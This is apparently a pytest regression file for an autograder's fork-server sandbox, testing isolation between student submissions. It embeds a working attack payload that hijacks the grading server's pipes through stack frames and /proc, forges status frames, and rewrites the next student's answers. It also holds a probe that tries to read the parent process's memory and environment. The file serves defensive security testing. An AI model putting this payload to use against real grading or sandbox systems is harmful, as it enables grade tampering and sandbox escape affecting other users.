"""No student speaks for the grader (issue 39, the first case): a submission's code cannot answer for the next one.

The attack, as it was measured against the warm sandbox: the student's code walks up its stack to the fork server's
own function (the child is forked inside it), takes the server's result channel, its command pipe, its token and
pid, tells the grader in the server's name that it has ended and is idle, reads the next submission's request from
the command pipe while the real server still waits for it to exit, answers "ready" with that request's token, and
serves the next student's cells itself, with the answers rewritten. Besides what it finds on its stack it tries
every descriptor it holds (/proc/self/fd) and the server's (/proc/<server>/fd).

Each victim is graded once alone and once right after an attacker, in both sandbox modes, through the CLI; it must
get exactly its per-cell alone score in about its alone time, and the attacker's forged frames must be reported
in the attacker's notes (the summary prints them), not absorbed silently.
"""

from __future__ import annotations

import os
import subprocess
import sys

import nbformat
import pytest

from autograder.model.notebooks import grade_id, is_solution_cell, read, source_notebook
from autograder.sandbox.forkserver import fork_servers_enabled
from autograder.store.gradebook import executed_path, load_results
from conftest import NOTEBOOK
from coursetools.samples import make_submission, solution_code, untouched_release, write_submission

pytestmark = pytest.mark.grading

REFERENCE = {grade_id(c): solution_code(c) for c in read(source_notebook(NOTEBOOK)).cells if is_solution_cell(c)}
CORRECT = "\n\n".join(REFERENCE.values())  # every answer of the exercise, in one cell
WRONG = """
import torch

def softmax(x, dim=-1):
    return x

def scaled_dot_product_attention(q, k, v, mask=None):
    return v, None

answer_shift = "b"
"""

ATTACK = r'''
import json, os, select, socket, sys

FORGED = "forged frames written: "


def _server_frame():
    frame = sys._getframe()
    while frame is not None and frame.f_code.co_name != "serve_forks":
        frame = frame.f_back
    return frame


def _descriptors(pid="self"):
    try:
        return sorted(int(fd) for fd in os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return []


def _forge(found):
    """The server's "exited" and "idle", in its name, on every descriptor this process holds or can open."""
    token, pid = found.get("token"), found.get("pid")
    frames = [{"type": kind, "code": 0, "token": token, "pid": pid} for kind in ("exited", "idle")]
    lines = b"".join((json.dumps(frame) + "\n").encode() for frame in frames)
    written = 0
    targets = set(_descriptors()) | ({found["channel"]} if isinstance(found.get("channel"), int) else set())
    for fd in sorted(targets):
        try:
            os.write(fd, lines)
            written += 1
        except OSError:
            pass
    for fd in _descriptors(pid if isinstance(pid, int) else 1):  # the server's, through /proc
        try:
            with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as handle:
                handle.write(lines)
                written += 1
        except (OSError, TypeError):
            pass
    return written


def _next_request(found):
    """The next submission's request, read where the server would read it (None where nothing gives one)."""
    commands = found.get("commands")
    candidates = []
    if commands is not None:
        candidates.append(("file", commands))
    for name, value in found.items():
        if isinstance(value, socket.socket):
            candidates.append(("socket", value))
    for kind, source in candidates:
        try:
            ready, _, _ = select.select([source.fileno()], [], [], 10)
            if not ready:
                continue
            if kind == "file":
                line = source.readline()
            else:
                line, _, _, _ = socket.recv_fds(source, 1 << 20, 4)
            request = json.loads(line).get("fork")
            if request:
                return request
        except (OSError, ValueError, AttributeError):
            continue
    return None


class _Rewriting:
    """The grader's cells for the victim, its answers replaced."""

    def __init__(self, inner, replacement):
        self.inner, self.replacement = inner, replacement

    def readline(self):
        line = self.inner.readline()
        try:
            cell = json.loads(line)
        except ValueError:
            return line
        if cell.get("kind") == "student":
            cell["source"] = self.replacement
            line = json.dumps(cell) + "\n"
        return line


def attack(replacement=None, times=1, ready_then_exit=False):
    frame = _server_frame()
    found = dict(frame.f_locals) if frame is not None else {}
    runner_class = frame.f_globals.get("Runner") if frame is not None else None
    taken = 0
    for _ in range(times):
        written = _forge(found)
        print(FORGED + str(written))
        request = _next_request(found)
        if request is None:
            break
        taken += 1
        if ready_then_exit:
            line = json.dumps({"type": "ready", "token": request["token"], "pid": os.getpid()}) + "\n"
            os.write(found["channel"], line.encode())
            os._exit(0)
        runner = runner_class(found["channel"], _Rewriting(found["commands"], replacement), request)
        runner.serve()
    if taken:
        os._exit(0)
    print("takeover: none")
'''


def attacker(**how) -> str:
    """The attacker's softmax cell: the attack, then its own (correct) answer, so that it finishes."""
    arguments = ", ".join(f"{k}={v!r}" for k, v in how.items())
    return ATTACK + f"\nattack({arguments})\n\n" + REFERENCE["softmax"]


def blank():
    return untouched_release(NOTEBOOK)


def correct():
    return make_submission(NOTEBOOK)


# (student, notebook) in the order they are graded (one worker grades students in name order); the victims are
# the students right after an attacker
CLASS = [
    ("a1-takeover", make_submission(NOTEBOOK, {"softmax": attacker(replacement=CORRECT)})),
    ("a2-blank", blank()),
    ("b1-sabotage", make_submission(NOTEBOOK, {"softmax": attacker(replacement=WRONG)})),
    ("b2-correct", correct()),
    ("c1-looper", make_submission(NOTEBOOK, {"softmax": attacker(replacement=CORRECT, times=4)})),
    ("c2-blank", blank()),
    ("c3-blank", blank()),
    ("c4-blank", blank()),
    ("c5-correct", correct()),
    ("d1-ready-exit", make_submission(NOTEBOOK, {"softmax": attacker(ready_then_exit=True)})),
    ("d2-correct", correct()),
]
ATTACKERS = [student for student, _ in CLASS if student.endswith(("takeover", "sabotage", "looper", "exit"))]
VICTIMS = [student for student, _ in CLASS if student not in ATTACKERS]
MODES = ["fork-server", "fresh-sandbox"]


def _grade_cli(subs, workdir, mode: str) -> str:
    """`autograder grade` as an instructor runs it, one worker, in the given sandbox mode."""
    env = {**os.environ, "AUTOGRADER_FORK_SERVER": "1" if mode == "fork-server" else "0"}
    command = [sys.executable, "-m", "autograder", "grade", str(subs), "--workdir", str(workdir), "--workers", "1"]
    proc = subprocess.run(command, capture_output=True, text=True, env=env, timeout=900)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return proc.stdout


@pytest.fixture(scope="module", params=MODES)
def graded(request, tmp_path_factory):
    if request.param == "fork-server" and not fork_servers_enabled():
        pytest.skip("fork servers need root (as an ordinary user every submission gets a fresh sandbox)")
    root = tmp_path_factory.mktemp(request.param)
    for student, nb in CLASS:
        write_submission(nb, root / "class" / student / f"{NOTEBOOK}.ipynb")
        if student in VICTIMS:
            write_submission(nb, root / "alone" / student / f"{NOTEBOOK}.ipynb")
    alone_output = _grade_cli(root / "alone", root / "w-alone", request.param)
    class_output = _grade_cli(root / "class", root / "w-class", request.param)
    alone = {r.student: r for r in load_results(root / "w-alone")}
    together = {r.student: r for r in load_results(root / "w-class")}
    return alone, together, alone_output + class_output, root / "w-class"


def points(result) -> list[tuple[str, float]]:
    return [(c.grade_id, c.points) for c in result.cells]


def test_the_class_is_graded_in_the_order_of_the_attack(graded):
    _, together, output, _ = graded
    where = {student: output.rfind(f" {student} ") for student, _ in CLASS}
    assert min(where.values()) >= 0, output
    assert sorted(where, key=where.get) == [student for student, _ in CLASS], output
    assert together["a2-blank"].max_score == 12


@pytest.mark.parametrize("victim", VICTIMS)
def test_every_victim_gets_its_alone_score_in_about_its_alone_time(graded, victim):
    alone, together, output, _ = graded
    assert points(together[victim]) == points(alone[victim]), f"{victim}: {output}"
    assert together[victim].reason == alone[victim].reason, output
    assert together[victim].seconds < alone[victim].seconds + 15, f"{victim} was held up: {output}"


def test_the_controls_score_as_expected(graded):
    alone, _, output, _ = graded
    assert alone["a2-blank"].score == 0 and alone["b2-correct"].score == 12, output


@pytest.mark.parametrize("attacker", ATTACKERS)
def test_forged_frames_are_reported_in_the_attackers_notes(graded, attacker):
    _, together, output, _ = graded
    notes = " ".join(together[attacker].repairs)
    assert "the grader's channel" in notes, f"{attacker}: {together[attacker].repairs}"
    summary = output[output.rfind("Summary") :]
    line = next(line for line in summary.splitlines() if line.startswith(attacker))
    assert "the grader's channel" in line, line


def test_the_attack_ran_and_wrote_its_frames(graded):
    """The attack did run and found descriptors to write to: the defence, not a broken attack, keeps the victims."""
    _, _, _, workdir = graded
    for attacker in ATTACKERS:
        nb = nbformat.read(executed_path(workdir, attacker, NOTEBOOK), as_version=4)
        printed = "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))
        written = [int(line.split(": ")[1]) for line in printed.splitlines() if line.startswith("forged frames")]
        assert written and written[0] > 0, (attacker, printed)


HOLDINGS = """
import os, signal
held = {}
for fd in sorted(int(entry) for entry in os.listdir("/proc/self/fd")):
    try:
        held[fd] = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        pass  # the listing's own descriptor, closed by now
print("held:", sorted(target.split(":")[0] if ":" in target else target for target in held.values()))
print("pipes:", sorted(target for target in held.values() if target.startswith("pipe:")))
server = os.getppid()
for what, attempt in [
    ("signal", lambda: os.kill(server, 0)),
    ("fds", lambda: os.listdir(f"/proc/{server}/fd")),
    ("mem", lambda: open(f"/proc/{server}/mem", "rb").read(1)),
    ("environ", lambda: open(f"/proc/{server}/environ", "rb").read(1)),
]:
    try:
        attempt()
        print("reached:", what)
    except OSError:
        print("refused:", what)
"""


def test_a_forked_child_holds_its_own_two_pipes_and_nothing_of_its_server(tmp_path):
    """Beyond stdin, stdout and stderr (all /dev/null) a child holds two pipes, made for it alone (the next child's
    are others), and cannot signal its server or read its descriptors, memory or environment."""
    if not fork_servers_enabled():
        pytest.skip("fork servers need root")
    for student in ("x", "y"):
        nb = make_submission(NOTEBOOK, {"softmax": HOLDINGS + REFERENCE["softmax"]})
        write_submission(nb, tmp_path / "s" / student / f"{NOTEBOOK}.ipynb")
    _grade_cli(tmp_path / "s", tmp_path / "w", "fork-server")
    pipes = []
    for student in ("x", "y"):
        nb = nbformat.read(executed_path(tmp_path / "w", student, NOTEBOOK), as_version=4)
        printed = "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))
        assert "held: ['/dev/null', '/dev/null', '/dev/null', 'pipe', 'pipe']" in printed, printed
        for what in ("signal", "fds", "mem", "environ"):
            assert f"refused: {what}" in printed, printed
        pipes.append(next(line for line in printed.splitlines() if line.startswith("pipes:")))
    assert pipes[0] != pipes[1], f"two children held the same pipes: {pipes}"
